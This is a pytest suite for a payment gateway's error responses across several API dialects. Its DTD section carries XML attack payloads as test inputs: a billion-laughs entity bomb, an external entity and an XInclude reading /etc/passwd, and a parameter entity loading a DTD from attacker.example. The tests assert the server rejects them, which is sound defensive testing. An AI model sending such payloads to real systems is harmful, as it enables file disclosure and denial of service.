"""Every error path, answered in the caller's own dialect: Rails XML/JSON, Invoiless
JSON, Feathers for urlKey; admin/unknown paths in the canonical JSON error."""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator

import pytest
from aiohttp import web

import dialects
from dialects import testing
from dialects.unit import Op
from gateway.config import Config
from gateway.serving.app import create_app

from ..access.helpers import (
    DECLARATION,
    JSON,
    NEVER_INVOICE,
    NEVER_PAYMENT,
    SECRET_DETAIL,
    XML,
    Answer,
    FailingStore,
    assert_feathers,
    create_request,
    credentials,
    feathers,
    freeze_rate_clock,
    invoiless_error,
    list_path,
    payment_path,
    rails_json,
    rails_xml,
    send,
    sqlite_path,
)
from ..clients import CLIENTS
from ..conftest import AiohttpClient, Client
from ..registry import ALL, has, names, rails
from ..support import hexid, invoice_state, make_config, new_invoice, tenant_config

RAILS = names(rails)
# The dialects whose exact documented wire text the tests below pin: the Rails family,
# Invoiless and urlKey (Feathers). Any other registered dialect (one installed as a
# plug-in, say) is checked through its own test support: `assert_own_shape`.
DOCUMENTED = (*RAILS, "invoiless", "urlkey")
XML_IN = {"Content-Type": "application/xml"}
JSON_IN = {"Content-Type": "application/json"}


def assert_rails(answer: Answer, status: int, *messages: str, fmt: str = "xml") -> None:
    """A Rails error document; a 400 also carries the messages in a `Hint` header."""
    assert answer.status == status, answer.body
    if fmt == "xml":
        assert answer.content_type == XML
        assert answer.body == rails_xml(*messages)
    else:
        assert answer.content_type == JSON
        assert answer.json() == rails_json(*messages)
    if status == 400:
        assert answer.headers["Hint"] == "; ".join(messages)
    else:
        assert "Hint" not in answer.headers


def assert_invoiless(
    answer: Answer, status: int, code: str, message: str, fields: dict[str, str] | None = None
) -> None:
    assert answer.status == status, answer.body
    assert answer.content_type == JSON
    assert answer.json() == invoiless_error(code, message, fields)


def assert_own_shape(
    dialect: str, answer: Answer, status: int, kind: str, message: str | None = None
) -> None:
    """The `kind` error in the shape of a dialect these tests pin no text for, as its test
    support reads it, at the status its codec documents for the kind (else `status`)."""
    assert dialect not in DOCUMENTED
    expected = dialects.get(dialect).statuses.get(kind, status)
    seen = testing.Answer(answer.status, answer.headers, answer.body)
    text = testing.support(dialect).error(seen, expected, kind)
    if message is not None:
        assert message in text, (message, text)


def test_every_dialect_is_pinned_or_read_through_its_test_support() -> None:
    """No registered dialect is silently skipped by the every-dialect tests here."""
    for dialect in ALL:
        own = type(testing.support(dialect)).error is not testing.Support.error
        assert dialect in DOCUMENTED or own, dialect


def only_message(answer: Answer) -> str:
    """The one message of a Rails XML error document."""
    body = answer.body.decode()
    assert body.startswith(DECLARATION + "<errors>\n  <error>"), body
    return answer.headers["Hint"]


async def nothing_recorded(client: Client, invoice: int) -> None:
    state = await invoice_state(client, invoice)
    assert state["payments"] == []
    assert state["due_amount"] == state["total"]


# --- malformed bodies -------------------------------------------------------------


@pytest.mark.parametrize("dialect", RAILS)
@pytest.mark.parametrize(
    "body",
    [
        "<payment><amount>1</payment>",
        "<payment>",
        "not xml at all",
        "",
        "<payment><amount>1</amount></payment><payment/>",
    ],
    ids=["mismatched", "unclosed", "text", "empty", "two-roots"],
)
async def test_malformed_xml_is_400_with_a_hint(client: Client, dialect: str, body: str) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request(dialect, invoice)
    answer = await send(client, "POST", path, headers={**credentials(dialect), **XML_IN}, body=body)
    hint = only_message(answer)
    assert hint.startswith("Malformed XML: "), hint
    assert_rails(answer, 400, hint)
    await nothing_recorded(client, invoice)


@pytest.mark.parametrize("dialect", RAILS)
async def test_malformed_xml_answered_in_json_when_json_is_accepted(
    client: Client, dialect: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request(dialect, invoice)
    headers = {**credentials(dialect), **XML_IN, "Accept": "application/json"}
    answer = await send(client, "POST", path, headers=headers, body="<payment><amount>")
    assert answer.status == 400
    hint = answer.headers["Hint"]
    assert hint.startswith("Malformed XML: ")
    assert_rails(answer, 400, hint, fmt="json")


@pytest.mark.parametrize("dialect", RAILS)
async def test_xml_of_the_wrong_document_is_400_with_a_hint(client: Client, dialect: str) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request(dialect, invoice)
    answer = await send(
        client, "POST", path, headers={**credentials(dialect), **XML_IN}, body="<refund/>"
    )
    root = "payment" if dialect == "harvest" else "invoice-payment"
    assert_rails(answer, 400, f"Expected a <{root}> document, got <refund>")


@pytest.mark.parametrize("dialect", RAILS)
async def test_hint_header_stays_ascii_when_the_problem_quotes_the_body(
    client: Client, dialect: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request(dialect, invoice)
    answer = await send(
        client, "POST", path, headers={**credentials(dialect), **XML_IN}, body="<zahlung-für/>"
    )
    assert answer.status == 400
    hint = answer.headers["Hint"]
    assert hint.isascii(), hint
    assert hint.endswith("got <zahlung-f\\xfcr>"), hint
    assert "got &lt;zahlung-für&gt;" in answer.body.decode()  # the body is UTF-8


@pytest.mark.parametrize("dialect", RAILS)
async def test_malformed_json_to_a_rails_dialect_is_400_with_a_hint(
    client: Client, dialect: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    path = f"/invoices/{invoice}/payments.json"
    if dialect == "fastbill":
        path = "/api/invoice-payments.json"
    answer = await send(
        client,
        "POST",
        path,
        headers={**credentials(dialect), **JSON_IN},
        body='{"payment": {"amount": ',
    )
    assert answer.status == 400, answer.body
    hint = answer.headers["Hint"]
    assert hint.startswith("Malformed JSON: "), hint
    assert_rails(answer, 400, hint, fmt="json")
    await nothing_recorded(client, invoice)


@pytest.mark.parametrize(
    "body",
    [
        b'{"amount": ',
        b"{'amount': 1}",
        b'{"amount": NaN, "method": "Cash"}',
        b'{"amount": 1, "amount": 2, "method": "Cash"}',
        b'{"notes": "\xff", "method": "Cash"}',
    ],
    ids=["truncated", "single-quotes", "nan", "duplicate-key", "not-utf8"],
)
async def test_malformed_json_to_invoiless_is_400_bad_request(client: Client, body: bytes) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request("invoiless", invoice)
    answer = await send(
        client, "POST", path, headers={**credentials("invoiless"), **JSON_IN}, body=body
    )
    assert answer.status == 400, answer.body
    error = answer.json()["error"]
    assert error["code"] == "bad_request"
    assert set(error) == {"code", "message"}
    await nothing_recorded(client, invoice)


@pytest.mark.parametrize("body", ['{"amount": ', "[1, 2]", '"amount"', "{} {}"])
async def test_malformed_json_to_urlkey_is_400_feathers(client: Client, body: str) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request("urlkey", invoice)
    answer = await send(
        client, "POST", path, headers={**credentials("urlkey"), **JSON_IN}, body=body
    )
    assert_feathers(answer, 400)
    await nothing_recorded(client, invoice)


async def test_a_json_array_to_invoiless_is_400_not_an_object(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request("invoiless", invoice)
    answer = await send(
        client, "POST", path, headers={**credentials("invoiless"), **JSON_IN}, body="[]"
    )
    assert_invoiless(answer, 400, "bad_request", "Expected a JSON object for a payment")


# --- DTDs and entities ---------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<{root}><amount>1.00</amount><paid-at>2026-01-01</paid-at><notes>&lol4;</notes></{root}>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<{root}><amount>1.00</amount><paid-at>2026-01-01</paid-at><notes>&xxe;</notes></{root}>"""
BARE_DOCTYPE = """<!DOCTYPE {root}>
<{root}><amount>1.00</amount><paid-at>2026-01-01</paid-at></{root}>"""
PARAMETER_ENTITY = """<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<{root}><amount>1.00</amount><paid-at>2026-01-01</paid-at></{root}>"""


@pytest.mark.parametrize("dialect", RAILS)
@pytest.mark.parametrize(
    "template",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, BARE_DOCTYPE, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "bare-doctype", "parameter-entity"],
)
async def test_xml_with_a_doctype_or_entities_is_400_and_nothing_recorded(
    client: Client, dialect: str, template: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request(dialect, invoice)
    root = "payment" if dialect == "harvest" else "invoice-payment"
    body = template.replace("{root}", root)
    if dialect == "fastbill":
        body = body.replace("<amount>", f"<invoice_id>{invoice}</invoice_id><amount>")
    answer = await send(client, "POST", path, headers={**credentials(dialect), **XML_IN}, body=body)
    assert_rails(answer, 400, "XML with a DOCTYPE or entity declarations is not accepted")
    await nothing_recorded(client, invoice)


@pytest.mark.parametrize("dialect", RAILS)
async def test_xinclude_is_400(client: Client, dialect: str) -> None:
    invoice = (await new_invoice(client))["id"]
    path, _, _ = create_request(dialect, invoice)
    root = "payment" if dialect == "harvest" else "invoice-payment"
    body = (
        f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><amount>1.00</amount>'
        f'<notes><xi:include href="file:///etc/passwd" parse="text"/></notes></{root}>'
    )
    answer = await send(client, "POST", path, headers={**credentials(dialect), **XML_IN}, body=body)
    assert answer.status == 400
    assert b"root:" not in answer.body
    await nothing_recorded(client, invoice)


# --- validation -----------------------------------------------------------------------

HARVEST_NO_PAID_AT = '<payment><amount type="decimal">10.00</amount></payment>'


async def test_harvest_missing_paid_at_is_422_rails_full_message(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "POST",
        f"/invoices/{invoice}/payments",
        headers={**credentials("harvest"), **XML_IN},
        body=HARVEST_NO_PAID_AT,
    )
    assert answer.status == 422
    assert answer.body == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<errors>\n  <error>Paid at can't be blank</error>\n</errors>\n"
    )
    assert_rails(answer, 422, "Paid at can't be blank")
    await nothing_recorded(client, invoice)


async def test_harvest_missing_paid_at_in_json_is_422_errors_array(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "POST",
        f"/invoices/{invoice}/payments.json",
        headers={**credentials("harvest"), **JSON_IN},
        body='{"payment": {"amount": "10.00"}}',
    )
    assert_rails(answer, 422, "Paid at can't be blank", fmt="json")


async def test_harvest_several_blank_fields_are_listed_in_a_stable_order(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "POST",
        f"/invoices/{invoice}/payments",
        headers={**credentials("harvest"), **XML_IN},
        body="<payment><notes>nothing else</notes></payment>",
    )
    # The field table's order (amount before paid-at), whatever the process' hash seed.
    assert_rails(answer, 422, "Amount can't be blank", "Paid at can't be blank")


async def test_harvest_bad_values_are_422_per_field(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "POST",
        f"/invoices/{invoice}/payments",
        headers={**credentials("harvest"), **XML_IN},
        body="<payment><amount>ten</amount><paid-at>yesterday</paid-at></payment>",
    )
    assert_rails(answer, 422, "Amount is not a number", "Paid at is not a valid datetime")


async def test_fastbill_missing_amount_is_422(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "POST",
        "/api/invoice-payments",
        headers={**credentials("fastbill"), **XML_IN},
        body=f"<invoice-payment><invoice_id>{invoice}</invoice_id></invoice-payment>",
    )
    assert_rails(answer, 422, "Amount can't be blank")
    await nothing_recorded(client, invoice)


async def test_fastbill_list_without_invoice_id_is_422(client: Client) -> None:
    answer = await send(client, "GET", "/api/invoice-payments", headers=credentials("fastbill"))
    assert_rails(answer, 422, "Invoice id can't be blank")


async def test_invoiless_notes_over_500_characters_is_400_with_fields(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    headers = {**credentials("invoiless"), **JSON_IN}
    body = '{"amount": 1, "method": "Cash", "notes": "%s"}'
    answer = await send(
        client, "POST", f"/v1/invoices/{invoice}/payments", headers=headers, body=body % ("n" * 501)
    )
    assert_invoiless(
        answer,
        400,
        "validation",
        "Validation failed",
        {"notes": "is too long (maximum is 500 characters)"},
    )
    await nothing_recorded(client, invoice)
    answer = await send(
        client, "POST", f"/v1/invoices/{invoice}/payments", headers=headers, body=body % ("n" * 500)
    )
    assert answer.status == 201, answer.body


async def test_invoiless_missing_method_and_bad_method_are_400_with_fields(
    client: Client,
) -> None:
    invoice = (await new_invoice(client))["id"]
    headers = {**credentials("invoiless"), **JSON_IN}
    path = f"/v1/invoices/{invoice}/payments"
    answer = await send(client, "POST", path, headers=headers, body='{"amount": 1}')
    assert_invoiless(answer, 400, "validation", "Validation failed", {"method": "can't be blank"})
    answer = await send(client, "POST", path, headers=headers, body='{"method": "Bitcoin"}')
    assert_invoiless(
        answer,
        400,
        "validation",
        "Validation failed",
        {"method": "must be one of Cash, Cheque, Card, BankTransfer, Other"},
    )


@pytest.mark.parametrize(
    "amount,problem",
    [
        ('"abc"', "is not a number"),
        ("-5", "must be greater than 0"),
        ("0", "must be greater than 0"),
        ("1.005", "must have at most 2 decimal places"),
        ("1e3", "is not a plain decimal number"),
        ("null", "can't be blank"),
        ("true", "is not a plain decimal number"),
    ],
)
async def test_urlkey_bad_amount_is_400_feathers_with_errors_amount(
    client: Client, amount: str, problem: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "POST",
        list_path("urlkey", invoice),
        headers={**credentials("urlkey"), **JSON_IN},
        body=f'{{"amount": {amount}, "paymentMethod": "CASH"}}',
    )
    assert answer.status == 400, answer.body
    assert answer.json() == feathers(400, "Validation failed", {"amount": problem})
    await nothing_recorded(client, invoice)


@pytest.mark.parametrize("dialect", ALL)
async def test_overpayment_is_422_in_each_dialect(client: Client, dialect: str) -> None:
    invoice = (await new_invoice(client, total="100.00"))["id"]
    path, body, headers = create_request(dialect, invoice, amount="100.01")
    answer = await send(
        client, "POST", path, headers={**credentials(dialect), **headers}, body=body
    )
    message = "Payment of 100.01 exceeds the amount due (100.00)"
    if dialect in RAILS:
        assert_rails(answer, 422, "Amount exceeds the amount due (100.00)")
    elif dialect == "invoiless":
        assert_invoiless(
            answer, 422, "ledger", message, {"amount": "exceeds the amount due (100.00)"}
        )
    elif dialect == "urlkey":
        assert answer.status == 422
        assert answer.json() == feathers(
            422, message, {"amount": "exceeds the amount due (100.00)"}
        )
    else:
        assert_own_shape(dialect, answer, 422, "ledger", "exceeds")
    await nothing_recorded(client, invoice)


# --- unknown invoices and payments -------------------------------------------------------


@pytest.mark.parametrize("dialect", ALL)
async def test_unknown_invoice_is_404_in_each_dialect(client: Client, dialect: str) -> None:
    headers = credentials(dialect)
    path, body, content = create_request(dialect, NEVER_INVOICE)
    listed = await send(client, "GET", list_path(dialect, NEVER_INVOICE), headers=headers)
    created = await send(client, "POST", path, headers={**headers, **content}, body=body)
    for answer in (listed, created):
        if dialect in RAILS:
            assert_rails(answer, 404, "Invoice not found")
        elif dialect == "invoiless":
            assert_invoiless(answer, 404, "not_found", "Invoice not found")
        elif dialect == "urlkey":
            assert answer.json() == feathers(404, "Invoice not found")
            assert answer.status == 404
    if dialect not in DOCUMENTED:
        support = testing.support(dialect)
        if support.lists_by_search:  # an unknown invoice lists nothing
            assert listed.status == 200, listed.body
            assert support.views(listed.body) == []
        else:
            assert_own_shape(dialect, listed, 404, "not_found")
        status, kind = support.unknown_invoice
        assert_own_shape(dialect, created, status, kind)


@pytest.mark.parametrize("dialect", names(has(Op.GET, Op.DELETE)))
async def test_unknown_payment_is_404_in_each_dialect(client: Client, dialect: str) -> None:
    invoice = (await new_invoice(client))["id"]
    headers = credentials(dialect)
    path = payment_path(dialect, invoice, NEVER_PAYMENT)
    answers = [
        await send(client, "GET", path, headers=headers),
        await send(client, "DELETE", path, headers=headers),
    ]
    if dialect == "invoiless":
        for method, body in (
            ("PUT", '{"method": "Cash", "amount": 1}'),
            ("PATCH", '{"notes": "x"}'),
        ):
            answers.append(
                await send(client, method, path, headers={**headers, **JSON_IN}, body=body)
            )
    for answer in answers:
        if dialect in RAILS:
            assert_rails(answer, 404, "Payment not found")
        elif dialect == "invoiless":
            assert_invoiless(answer, 404, "not_found", "Payment not found")
        else:
            assert_own_shape(dialect, answer, 404, "not_found")


@pytest.mark.parametrize(
    "dialect,path",
    [
        ("harvest", "/invoices/abc/payments"),
        ("harvest", "/invoices/0/payments"),
        ("harvest", "/invoices/-1/payments"),
        ("harvest", "/invoices/1/payments/abc"),
        ("fastbill", "/api/invoice-payments/abc"),
        ("fastbill", "/api/invoice-payments?invoice_id=abc"),
        ("invoiless", "/v1/payments/abc"),
        ("invoiless", "/v1/payments/0"),
        ("invoiless", "/v1/invoices/%20/payments"),
        ("urlkey", "/businesses/acme-biz/invoices/abc/payments"),
        ("urlkey", "/businesses/acme-biz/invoices/000000000000000000000000/payments"),
        ("urlkey", "/businesses/acme-biz/invoices/00000000000000000000000A/payments"),
    ],
)
async def test_ids_that_cannot_exist_are_404(client: Client, dialect: str, path: str) -> None:
    answer = await send(client, "GET", path, headers=credentials(dialect))
    assert answer.status == 404, answer.body
    if dialect in RAILS:
        assert answer.body.startswith(DECLARATION.encode() + b"<errors>")
    elif dialect == "invoiless":
        assert answer.json()["error"]["code"] == "not_found"
    else:
        assert_feathers(answer, 404)


async def test_harvest_payment_of_another_invoice_is_404(client: Client) -> None:
    first = (await new_invoice(client))["id"]
    second = (await new_invoice(client))["id"]
    _, payment = await CLIENTS["harvest"](client).create(first, "10.00")
    for method in ("GET", "DELETE"):
        answer = await send(
            client,
            method,
            f"/invoices/{second}/payments/{payment}",
            headers=credentials("harvest"),
        )
        assert_rails(answer, 404, "Payment not found")
    assert len((await invoice_state(client, first))["payments"]) == 1


# --- 405, 406 --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "dialect,method,path,allow",
    [
        ("harvest", "PUT", "/invoices/1/payments/2", "DELETE, GET"),
        ("harvest", "PATCH", "/invoices/1/payment/2", "DELETE, GET"),
        ("harvest", "DELETE", "/invoices/1/payments", "GET, POST"),
        ("fastbill", "PUT", "/api/invoice-payments/2", "DELETE, GET"),
        ("fastbill", "DELETE", "/api/invoice-payments", "GET, POST"),
        ("invoiless", "POST", "/v1/payments/2", "DELETE, GET, PATCH, PUT"),
        ("invoiless", "DELETE", "/v1/invoices/1/payments", "GET, POST"),
        ("urlkey", "DELETE", f"/businesses/acme-biz/invoices/{hexid(1)}/payments", "GET, POST"),
        ("urlkey", "PUT", f"/businesses/acme-biz/invoices/{hexid(1)}/payments", "GET, POST"),
        ("urlkey", "GET", "/authentication", "POST"),
    ],
)
async def test_unsupported_method_is_405_with_allow(
    client: Client, dialect: str, method: str, path: str, allow: str
) -> None:
    answer = await send(client, method, path, headers=credentials(dialect))
    assert answer.status == 405
    assert answer.headers["Allow"] == allow
    if dialect in RAILS:
        assert_rails(answer, 405, "Method not allowed")
    elif dialect == "invoiless":
        assert_invoiless(answer, 405, "method", "Method not allowed")
    else:
        assert_feathers(answer, 405, "Method not allowed")


@pytest.mark.parametrize("dialect", RAILS)
async def test_405_and_404_before_routing_follow_accept_and_suffix(
    client: Client, dialect: str
) -> None:
    base = "/invoices/1/payments" if dialect == "harvest" else "/api/invoice-payments"
    cases = [
        ("PATCH", f"{base}/2", {"Accept": "application/json"}, 405, "Method not allowed"),
        ("PATCH", f"{base}/2.json", {}, 405, "Method not allowed"),
        ("GET", f"{base}/2/refunds", {"Accept": "application/json"}, 404, "Not found"),
        ("GET", f"{base}/2/refunds.json", {}, 404, "Not found"),
    ]
    for method, path, accept, status, message in cases:
        answer = await send(client, method, path, headers={**credentials(dialect), **accept})
        assert_rails(answer, status, message, fmt="json")
    answer = await send(client, "GET", f"{base}/2/refunds", headers={"Accept": "image/png"})
    assert_rails(answer, 404, "Not found")


@pytest.mark.parametrize("dialect", ALL)
async def test_unsatisfiable_accept_is_406(client: Client, dialect: str) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "GET",
        list_path(dialect, invoice),
        headers={**credentials(dialect), "Accept": "image/png"},
    )
    if dialect in RAILS:
        assert_rails(answer, 406, "Can only answer in xml, json")
    elif dialect == "invoiless":
        assert_invoiless(answer, 406, "not_acceptable", "Can only answer in json")
    elif dialect == "urlkey":
        assert_feathers(answer, 406, "Can only answer in json")
    else:
        assert_own_shape(dialect, answer, 406, "not_acceptable", "Can only answer in")


@pytest.mark.parametrize(
    "dialect,accept",
    [
        ("harvest", "application/json;q=0, application/xml;q=0"),
        ("fastbill", "text/html"),
        ("invoiless", "application/xml"),
        ("urlkey", "text/xml"),
    ],
)
async def test_accept_naming_only_other_formats_is_406(
    client: Client, dialect: str, accept: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    answer = await send(
        client,
        "GET",
        list_path(dialect, invoice),
        headers={**credentials(dialect), "Accept": accept},
    )
    assert answer.status == 406


async def test_urlkey_authentication_with_unsatisfiable_accept_is_406(client: Client) -> None:
    answer = await send(
        client,
        "POST",
        "/authentication",
        headers={**JSON_IN, "Accept": "image/png"},
        body='{"strategy": "app-secret", "appId": "acme-app", "appSecret": "acme-app-secret"}',
    )
    assert_feathers(answer, 406, "Can only answer in json")


# --- 413, 415 ----------------------------------------------------------------------------


@pytest.fixture
def small_config(database: str) -> Config:
    return make_config(database, server={"max_body_bytes": 1024})


@pytest.fixture
async def small_client(aiohttp_client: AiohttpClient, small_config: Config) -> Client:
    return await aiohttp_client(create_app(small_config))


def padded(dialect: str, invoice: int, size: int) -> tuple[str, str, dict[str, str]]:
    """A valid create request whose body is exactly `size` bytes (padded in the notes,
    then with white space after the document)."""
    support = testing.support(dialect)
    bare = (support.create("acme", invoice, "1.00", notes="").body or b"").decode()
    fill = size - len(bare.encode())
    request = support.create("acme", invoice, "1.00", notes="n" * min(fill, 500))
    body = (request.body or b"").decode()
    body += " " * (size - len(body.encode()))
    assert len(body.encode()) == size
    return request.path, body, dict(request.headers)


@pytest.mark.parametrize("dialect", ALL)
async def test_body_over_max_body_bytes_is_413(small_client: Client, dialect: str) -> None:
    invoice = (await new_invoice(small_client))["id"]
    path, body, headers = padded(dialect, invoice, 1025)
    answer = await send(
        small_client, "POST", path, headers={**credentials(dialect), **headers}, body=body
    )
    message = "Request body exceeds 1024 bytes"
    if dialect in RAILS:
        assert_rails(answer, 413, message)
    elif dialect == "invoiless":
        assert_invoiless(answer, 413, "too_large", message)
    elif dialect == "urlkey":
        assert_feathers(answer, 413, message)
    else:
        assert_own_shape(dialect, answer, 413, "too_large", message)
    await nothing_recorded(small_client, invoice)


@pytest.mark.parametrize("dialect", ALL)
async def test_body_of_exactly_max_body_bytes_is_accepted(
    small_client: Client, dialect: str
) -> None:
    invoice = (await new_invoice(small_client))["id"]
    path, body, headers = padded(dialect, invoice, 1024)
    answer = await send(
        small_client, "POST", path, headers={**credentials(dialect), **headers}, body=body
    )
    assert answer.status == testing.support(dialect).create_status, answer.body


async def test_chunked_body_over_max_body_bytes_is_413(small_client: Client) -> None:
    invoice = (await new_invoice(small_client))["id"]
    path, body, headers = padded("invoiless", invoice, 4096 + 17)

    async def chunks() -> AsyncIterator[bytes]:
        raw = body.encode()
        for start in range(0, len(raw), 512):
            yield raw[start : start + 512]

    async with small_client.post(
        path, data=chunks(), headers={**credentials("invoiless"), **headers}
    ) as response:
        assert response.status == 413
        assert "Content-Length" not in response.request_info.headers
        assert await response.json() == invoiless_error(
            "too_large", "Request body exceeds 1024 bytes"
        )
    await nothing_recorded(small_client, invoice)


async def test_urlkey_authentication_body_over_max_body_bytes_is_413(
    small_client: Client,
) -> None:
    body = '{"strategy": "app-secret", "appId": "acme-app", "appSecret": "%s"}' % ("x" * 1024)
    answer = await send(small_client, "POST", "/authentication", headers=JSON_IN, body=body)
    assert_feathers(answer, 413, "Request body exceeds 1024 bytes")


@pytest.mark.parametrize("dialect", ALL)
@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "application/octet-stream"]
)
async def test_unsupported_content_type_is_415(
    client: Client, dialect: str, content_type: str
) -> None:
    invoice = (await new_invoice(client))["id"]
    path, body, _ = create_request(dialect, invoice)
    answer = await send(
        client,
        "POST",
        path,
        headers={**credentials(dialect), "Content-Type": content_type},
        body=body,
    )
    if dialect in RAILS:
        assert_rails(answer, 415, "Content-Type must be application/xml or application/json")
    elif dialect == "invoiless":
        assert_invoiless(answer, 415, "media_type", "Content-Type must be application/json")
    elif dialect == "urlkey":
        assert_feathers(answer, 415, "Content-Type must be application/json")
    else:
        assert_own_shape(dialect, answer, 415, "media_type", "Content-Type must be")
    await nothing_recorded(client, invoice)


async def test_invoiless_put_with_unsupported_content_type_is_415(client: Client) -> None:
    invoice = (await new_invoice(client))["id"]
    _, payment = await CLIENTS["invoiless"](client).create(invoice, "10.00")
    for method in ("PUT", "PATCH"):
        answer = await send(
            client,
            method,
            f"/v1/payments/{payment}",
            headers={**credentials("invoiless"), "Content-Type": "text/plain"},
            body='{"amount": 20, "method": "Cash"}',
        )
        assert_invoiless(answer, 415, "media_type", "Content-Type must be application/json")
    assert (await invoice_state(client, invoice))["payments"][0]["amount"] == "10.00"


async def test_urlkey_authentication_with_text_plain_is_415(client: Client) -> None:
    answer = await send(
        client,
        "POST",
        "/authentication",
        headers={"Content-Type": "text/plain"},
        body='{"strategy": "app-secret", "appId": "acme-app", "appSecret": "acme-app-secret"}',
    )
    assert_feathers(answer, 415, "Content-Type must be application/json")


# --- unknown paths -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "dialect,path",
    [
        ("harvest", "/invoices"),
        ("harvest", "/invoices/1/refunds"),
        ("harvest", "/invoices/1/payments/2/receipt"),
        ("fastbill", "/api/refunds"),
        ("fastbill", "/api/invoice-payments/1/receipt"),
        ("invoiless", "/v1/refunds"),
        ("invoiless", "/v1/invoices/1"),
        ("urlkey", "/businesses/acme-biz/customers"),
        ("urlkey", f"/businesses/acme-biz/invoices/{hexid(1)}/payments/{hexid(2)}"),
    ],
)
async def test_unknown_path_under_a_dialect_prefix_is_404_in_its_shape(
    client: Client, dialect: str, path: str
) -> None:
    for headers in ({}, credentials(dialect)):
        answer = await send(client, "GET", path, headers=headers)
        if dialect in RAILS:
            assert_rails(answer, 404, "Not found")
        elif dialect == "invoiless":
            assert_invoiless(answer, 404, "not_found", "Not found")
        else:
            assert_feathers(answer, 404, "Not found")


async def test_unknown_path_outside_the_dialects_is_404_canonical(client: Client) -> None:
    answer = await send(client, "GET", "/nothing/here")
    assert answer.status == 404
    assert answer.content_type == JSON
    assert answer.json() == {"error": {"code": "not_found", "message": "Not found"}}


# --- 500 ---------------------------------------------------------------------------------


@pytest.fixture
async def failing_client(aiohttp_client: AiohttpClient, config: Config, database: str) -> Client:
    store = FailingStore(sqlite_path(database))
    return await aiohttp_client(create_app(config, store=store))


@pytest.mark.parametrize(
    "dialect,path",
    [
        ("harvest", "/invoices/1/payments/1"),
        ("harvest", "/invoices/1/payments"),
        ("fastbill", "/api/invoice-payments/1"),
        ("fastbill", "/api/invoice-payments.json?invoice_id=1"),
        ("invoiless", "/v1/payments/1"),
        ("invoiless", "/v1/invoices/1/payments"),
        ("urlkey", f"/businesses/acme-biz/invoices/{hexid(1)}/payments"),
    ],
)
async def test_unexpected_exception_is_500_in_the_dialects_shape_without_details(
    failing_client: Client, dialect: str, path: str, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.ERROR, logger="gateway"):
        answer = await send(failing_client, "GET", path, headers=credentials(dialect))
    json_suffix = path.split("?")[0].endswith(".json")
    if dialect in RAILS:
        assert_rails(answer, 500, "Internal error", fmt="json" if json_suffix else "xml")
    elif dialect == "invoiless":
        assert_invoiless(answer, 500, "internal", "Internal error")
    else:
        assert_feathers(answer, 500, "Internal error")
    exposed = answer.body.decode() + "".join(f"{k}: {v}" for k, v in answer.headers.items())
    for leak in (SECRET_DETAIL, "hunter2", "Traceback", "RuntimeError", "ledger.db", ".py"):
        assert leak not in exposed
    # The detail goes to the operator's log instead.
    logged = [r for r in caplog.records if r.exc_info and SECRET_DETAIL in str(r.exc_info[1])]
    assert logged, caplog.records


# --- rate limits -----------------------------------------------------------------------------


@pytest.fixture
async def limited_app(database: str) -> web.Application:
    config = make_config(
        database,
        tenants={
            "acme": tenant_config("acme", rate_limit={"per_second": 1, "burst": 2}),
            "globex": tenant_config("globex"),
        },
    )
    return create_app(config)


async def test_rate_limit_third_quick_request_is_refused(
    aiohttp_client: AiohttpClient, limited_app: web.Application
) -> None:
    client = await aiohttp_client(limited_app)
    invoice = (await new_invoice(client))["id"]
    path, headers = list_path("harvest", invoice), credentials("harvest")
    statuses = [(await send(client, "GET", path, headers=headers)).status for _ in range(3)]
    assert statuses == [200, 200, 503]


@pytest.mark.parametrize("dialect", ALL)
async def test_rate_limit_answers_in_each_dialects_way_with_retry_after(
    aiohttp_client: AiohttpClient, limited_app: web.Application, dialect: str
) -> None:
    client = await aiohttp_client(limited_app)
    now = freeze_rate_clock(limited_app)
    invoice = (await new_invoice(client))["id"]
    path, headers = list_path(dialect, invoice), credentials(dialect)
    for _ in range(2):
        assert (await send(client, "GET", path, headers=headers)).status == 200
    answer = await send(client, "GET", path, headers=headers)
    assert answer.headers["Retry-After"] == "1"
    if dialect == "harvest":
        assert_rails(answer, 503, "Rate limit exceeded")
    elif dialect == "fastbill":
        assert_rails(answer, 429, "Rate limit exceeded")
